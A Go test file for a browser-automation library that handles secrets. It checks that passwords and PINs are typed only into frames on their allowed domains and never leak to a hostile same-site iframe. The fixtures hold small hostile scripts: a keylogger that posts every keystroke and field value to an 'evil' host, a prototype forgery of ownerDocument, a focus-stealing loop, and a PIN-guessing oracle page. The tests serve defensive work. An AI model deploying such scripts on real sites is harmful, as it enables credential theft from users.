package browser

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/dom"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/chromedp"
)

// The hosts of these tests are names under localhost, which Chrome and
// the fence resolve to this machine: login.site.localhost and
// evil.site.localhost are one site, so the evil frame runs in the login
// page's process and its elements are in the login page's snapshot, as
// a same-site frame's are on the web.
const (
	loginHost = "login.site.localhost"
	evilHost  = "evil.site.localhost"
	bankHost  = "bank.site.localhost"
	// framePIN holds a letter: the process keeps every secret its tests
	// declare, and an all-digit one would be found (and redacted) in the
	// random numbers other tests' pages show beside their figures.
	framePIN = "K4711"
	framePW  = "Osprey-2290-Lantern"
)

// hostSite serves pages by host, and keeps every value the evil host's
// scripts report (what its fields received), so a test sees a secret
// that reached it.
type hostSite struct {
	*httptest.Server
	port  string
	mu    sync.Mutex
	heard []string
}

func (s *hostSite) url(host, path string) string {
	return "http://" + host + ":" + s.port + path
}

func (s *hostSite) leaked() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.heard...)
}

func (s *hostSite) heardValue(v string) bool {
	for _, h := range s.leaked() {
		if strings.Contains(strings.ToLower(h), strings.ToLower(v)) {
			return true
		}
	}
	return false
}

// reportJS sends the evil frame's field's every change to its host.
const reportJS = `<script>
const report = (v) => fetch('/heard', {method: 'POST', body: v});
document.addEventListener('input', (e) => report(e.target.value || ''), true);
document.addEventListener('keydown', (e) => report('key:' + e.key), true);
</script>`

func newHostSite(t *testing.T, pages map[string]string) *hostSite {
	t.Helper()
	s := &hostSite{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host, _, _ := net.SplitHostPort(r.Host)
		if r.URL.Path == "/heard" {
			b, _ := io.ReadAll(r.Body)
			s.mu.Lock()
			s.heard = append(s.heard, host+": "+string(b))
			s.mu.Unlock()
			return
		}
		body, ok := pages[host+r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, strings.ReplaceAll(body, "PORT", s.port))
	}))
	_, s.port, _ = net.SplitHostPort(s.Listener.Addr().String())
	t.Cleanup(s.Close)
	return s
}

func siteSecrets() []Secret {
	return []Secret{
		{Name: "pw", Value: framePW, Domains: []string{loginHost}},
		{Name: "pin", Value: framePIN, Domains: []string{bankHost}},
	}
}

func elementNamed(t *testing.T, snap *Snapshot, name string) Element {
	t.Helper()
	for _, e := range snap.Elements {
		if e.Name == name {
			return e
		}
	}
	t.Fatalf("no element named %q in\n%s", name, snap)
	return Element{}
}

// A frame from another host that forges what a script would read of its
// document (Node.prototype.ownerDocument) gets no secret: the browser
// says which frame holds the field, and that frame is off the secret's
// domains.
func TestASecretIsTypedOnlyIntoAFrameTheBrowserPlacesOnItsDomains(t *testing.T) {
	t.Parallel()
	site := newHostSite(t, map[string]string{
		loginHost + "/login": `<!doctype html><title>Sign in</title><h1>Sign in</h1>
<label>Password <input id="pw" type="password"></label>
<iframe src="http://` + evilHost + `:PORT/frame" width="400" height="200"></iframe>`,
		evilHost + "/frame": `<!doctype html><label>Card number <input id="card"></label>` + reportJS + `<script>
const forged = {location: {hostname: '` + loginHost + `'}, defaultView: window};
Object.defineProperty(Node.prototype, 'ownerDocument', {get() { return forged; }});
</script>`,
	})
	p := open(t, Options{AllowedDomains: []string{"site.localhost"}, Secrets: siteSecrets()})
	ctx := ctxT(t)
	if _, err := p.Navigate(ctx, site.url(loginHost, "/login")); err != nil {
		t.Fatal(err)
	}
	snap := observe(t, p)
	card := elementNamed(t, snap, "Card number")
	if card.Frame == 0 {
		t.Fatalf("the card field is not the frame's:\n%s", snap)
	}
	_, err := p.Type(ctx, snap.Index(card.Index), Placeholder("pw"), false)
	if !errors.Is(err, ErrSecretDomain) || !strings.Contains(err.Error(), evilHost) {
		t.Errorf("typing the secret into the evil frame: %v; want ErrSecretDomain naming %s", err, evilHost)
	}
	// The control: what is typed there is heard, so the secret would have
	// been.
	if _, err := p.Type(ctx, snap.Index(card.Index), "canary-5512", false); err != nil {
		t.Fatal(err)
	}
	waitHeard(t, site, "canary-5512")
	if site.heardValue(framePW) {
		t.Errorf("the evil frame heard the secret: %q", site.leaked())
	}
	// The secret's own field, in the login page, takes it.
	if _, err := p.Type(ctx, snap.Index(elementNamed(t, snap, "Password").Index), Placeholder("pw"), false); err != nil {
		t.Errorf("typing into the login page's own field: %v", err)
	}
}

// A frame that pulls the focus to its own field, over and over, gets
// none of what is typed elsewhere: a secret is set into its field, never
// sent as keys, and keys are sent only while the field has the focus.
func TestTypingGoesToTheFieldNotWhereThePageMovedTheFocus(t *testing.T) {
	t.Parallel()
	site := newHostSite(t, map[string]string{
		loginHost + "/login": `<!doctype html><title>Sign in</title><h1>Sign in</h1>
<label>Password <input id="pw" type="password"></label><label>Name <input id="name"></label>
<iframe src="http://` + evilHost + `:PORT/frame" width="400" height="200"></iframe>`,
		evilHost + "/frame": `<!doctype html><input id="grab">` + reportJS + `<script>
const grab = document.getElementById('grab');
setInterval(() => grab.focus(), 0);
</script>`,
	})
	p := open(t, Options{AllowedDomains: []string{"site.localhost"}, Secrets: siteSecrets()})
	ctx := ctxT(t)
	if _, err := p.Navigate(ctx, site.url(loginHost, "/login")); err != nil {
		t.Fatal(err)
	}
	// The control: keys sent the way a plain driver sends them, right
	// after focusing the field, are heard by the frame.
	controlHeard := false
	for i := range 40 {
		canary := fmt.Sprintf("control-%d-7731", i)
		err := p.do(ctx, "control", "", 10*time.Second, func(ctx context.Context) error {
			id, err := CSS("#name").resolve(ctx, p)
			if err != nil {
				return err
			}
			if _, err := chromedp.Call(ctx, dom.Focus, dom.FocusParams{BackendNodeID: id}); err != nil {
				return err
			}
			_, err = chromedp.Call(ctx, input.InsertText, input.InsertTextParams{Text: canary})
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		if waitHeardFor(site, canary, 300*time.Millisecond) {
			controlHeard = true
			break
		}
	}
	if !controlHeard {
		t.Fatalf("the frame never took the focus from a plain driver's typing in 40 tries: the test shows nothing (heard %q)", site.leaked())
	}
	for range 8 {
		if _, err := p.Type(ctx, CSS("#pw"), Placeholder("pw"), false); err != nil {
			t.Fatalf("typing the secret: %v", err)
		}
		_, err := p.Type(ctx, CSS("#name"), "Ada", false)
		if err != nil && !errors.Is(err, ErrFocusMoved) {
			t.Fatalf("typing a name: %v", err)
		}
	}
	var v string
	err := p.do(ctx, "read", "", 10*time.Second, func(ctx context.Context) error {
		id, err := CSS("#pw").resolve(ctx, p)
		if err == nil {
			v, err = callOn[string](ctx, id, `function() { return this.value; }`)
		}
		return err
	})
	if err != nil || v != framePW {
		t.Errorf("the password field holds %q (%v), want the secret", v, err)
	}
	if site.heardValue(framePW) || site.heardValue("Ada") {
		t.Errorf("the frame that took the focus heard what was typed: %q", site.leaked())
	}
}

// A page off a secret's domains that shows its value among its own words
// learns nothing from the product: the value is not marked with the
// secret's name, and no element that shows it (or stands in the same
// item as it) can be acted on. On the secret's own domain the same page
// names it.
func TestAPageOffASecretsDomainsCannotUseItsNameAsAnOracle(t *testing.T) {
	t.Parallel()
	var buttons, cards strings.Builder
	for _, pin := range []string{"0000", "1234", framePIN, "9999"} {
		fmt.Fprintf(&buttons, `<button onclick="fetch('/heard',{method:'POST',body:'%s'})">PIN %s</button>`, pin, pin)
		fmt.Fprintf(&cards, `<li><span>Code %s</span> <button onclick="fetch('/heard',{method:'POST',body:'card %s'})">Choose</button></li>`, pin, pin)
	}
	page := `<!doctype html><title>Pick</title><h1>Pick your PIN</h1>` + buttons.String() + `<ul>` + cards.String() + `</ul>`
	site := newHostSite(t, map[string]string{evilHost + "/pick": page, bankHost + "/pick": page})
	p := open(t, Options{AllowedDomains: []string{"site.localhost"}, Secrets: siteSecrets()})
	ctx := ctxT(t)

	if _, err := p.Navigate(ctx, site.url(bankHost, "/pick")); err != nil {
		t.Fatal(err)
	}
	if snap := observe(t, p); !strings.Contains(snap.String(), `"PIN <secret:pin>"`) {
		t.Errorf("on the secret's own domain the value is not named:\n%s", snap)
	}

	if _, err := p.Navigate(ctx, site.url(evilHost, "/pick")); err != nil {
		t.Fatal(err)
	}
	snap := observe(t, p)
	if strings.Contains(snap.String(), "<secret:pin>") || strings.Contains(snap.String(), framePIN) {
		t.Errorf("off the secret's domains the value is named or shown:\n%s", snap)
	}
	var held, free []Element
	for _, e := range snap.Elements {
		if e.Role != "button" {
			continue
		}
		if len(e.untouchable) > 0 {
			held = append(held, e)
		} else {
			free = append(free, e)
		}
	}
	if len(held) != 2 {
		t.Fatalf("want the PIN button and its card's Choose untouchable, got %d:\n%s", len(held), snap)
	}
	for _, e := range held {
		if _, err := p.Click(ctx, snap.Index(e.Index)); !errors.Is(err, ErrSecretDomain) {
			t.Errorf("click %s: %v, want ErrSecretDomain", e.Line(80), err)
		}
	}
	// The control: a click on any other is heard.
	for _, e := range free {
		if _, err := p.Click(ctx, snap.Index(e.Index)); err != nil {
			t.Errorf("click %s: %v", e.Line(80), err)
		}
	}
	waitHeard(t, site, "9999")
	if site.heardValue(framePIN) {
		t.Errorf("the page learned the PIN: %q", site.leaked())
	}
}

// waitHeard waits for the site to hear v, and fails the test if it does
// not within a few seconds.
func waitHeard(t *testing.T, s *hostSite, v string) {
	t.Helper()
	if !waitHeardFor(s, v, 5*time.Second) {
		t.Fatalf("the site never heard %q (heard %q): the listener would miss a leak", v, s.leaked())
	}
}

func waitHeardFor(s *hostSite, v string, d time.Duration) bool {
	for deadline := time.Now().Add(d); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if s.heardValue(v) {
			return true
		}
	}
	return false
}
